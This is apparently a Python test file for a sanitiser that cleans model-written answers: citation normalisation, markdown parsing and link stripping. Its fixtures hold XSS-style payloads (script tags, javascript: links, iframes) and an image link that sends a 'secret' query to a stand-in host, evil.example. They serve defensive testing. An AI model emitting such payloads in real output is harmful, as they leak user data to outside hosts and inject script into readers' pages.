"""What a model wrote, as pages show it: pure."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pressbox.curator.ask.domain import (
    LONGEST_TITLE,
    BlockKind,
    Piece,
    PieceKind,
    blocks,
    checked,
    cited,
    clean_markdown,
    markdown_address,
    pieces,
    title_of,
)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("It fell [1].", "It fell [1]."),
        ("It fell[1][2].", "It fell [1][2]."),
        ("It fell [2, 1; 2].", "It fell [2][1]."),
        ("It fell [1-3].", "It fell [1][2][3]."),
        ("It fell [9].", "It fell."),
        ("It fell [0] [4] [3].", "It fell [3]."),
        ("It fell 【2】.", "It fell [2]."),
        ("It fell [passage 2].", "It fell [2]."),
        ("See [the page](https://evil.example.org/x).", "See the page."),
        ("![pixel](https://evil.example.org/?q=secret)", "pixel"),
        ("  It\u202e fell\x00.  ", "It fell."),
    ],
)
def test_citations_have_one_form_and_name_only_passages_that_exist(said: str, shown: str) -> None:
    assert checked(said, 3) == shown


@given(st.text(max_size=300), st.integers(0, 9))
def test_whatever_was_said_only_passages_that_exist_are_cited(said: str, count: int) -> None:
    assert all(1 <= number <= count for number in cited(checked(said, count)))


@given(st.text(alphabet="ab*`[]12 \n-#.<>", max_size=200))
def test_no_letter_is_lost_between_the_text_and_its_pieces(said: str) -> None:
    letters = "".join(one for one in said if one in "ab")
    shown = "".join(piece.text for block in blocks(said) for line in block.lines for piece in line)
    assert "".join(one for one in shown if one in "ab") == letters


def test_an_answer_is_paragraphs_and_lists_with_emphasis_and_citations() -> None:
    first, listed, last = blocks("## So\nit *fell* [1].\n\n- one [2]\n- **two**\nThe `end`.")
    assert first.kind is BlockKind.PARAGRAPH
    assert first.lines[0] == (
        Piece(PieceKind.TEXT, "So it "),
        Piece(PieceKind.EMPHASIS, "fell"),
        Piece(PieceKind.CITATION, "1"),
        Piece(PieceKind.TEXT, "."),
    )
    assert (listed.kind, len(listed.lines)) == (BlockKind.LIST, 2)
    assert listed.lines[0][-1].number == 2
    assert listed.lines[1] == (Piece(PieceKind.STRONG, "two"),)
    assert last.lines[0][1] == Piece(PieceKind.CODE, "end")


def test_markup_is_nothing_but_text() -> None:
    (block,) = blocks("<script>alert(1)</script>")
    assert block.lines == ((Piece(PieceKind.TEXT, "<script>alert(1)</script>"),),)


def test_two_times_two_is_not_emphasis() -> None:
    assert list(pieces("2 * 2 * 2")) == [Piece(PieceKind.TEXT, "2 * 2 * 2")]


def test_a_conversation_is_called_by_its_first_question() -> None:
    assert title_of("  Is  it\nclosed? ") == "Is it closed?"
    assert len(title_of("word " * 100)) <= LONGEST_TITLE


EVIL = """# Heading <script>alert(1)</script>

![seen](https://evil.example/pixel.png?who=me) and <img src=https://evil.example/2.png> **bold <b>** [1][2]
[click](javascript:alert(1)) [ref]: https://evil.example/3 `code <i>` *soft*

[ref]: https://evil.example/4 "title"
1. item <iframe src=//evil.example>
- ![](//evil.example/5.png)
~~~html
<script src=https://evil.example/6.js></script>
"""


def test_what_a_model_writes_leaves_as_text_with_plain_formatting() -> None:
    made = clean_markdown(EVIL)
    outside_code = re.sub(r"`[^`\n]*`", "", made)
    assert not re.search(r"(?<!\\)(?:[<!~`]|\[(?!\d+\])|(?<!\d)\](?!\d)|\]\()", outside_code)
    assert "alert(1)" in made, "it is still there to be read"
    assert "*soft*" in made
    assert "[1][2]" in made


def test_clean_markdown_keeps_headings_lists_and_citations() -> None:
    text = "## Why\n\nIt is **closed** [1][2].\n\n- one [3]\n2) two"
    assert clean_markdown(text) == "## Why\n\nIt is **closed** [1][2].\n\n- one [3]\n- two"


def test_an_address_in_markdown_cannot_end_its_link() -> None:
    assert markdown_address("https://e.org/a)(b> <c") == "https://e.org/a%29%28b%3E%20%3Cc"
    assert markdown_address("javascript:alert(1)") == ""
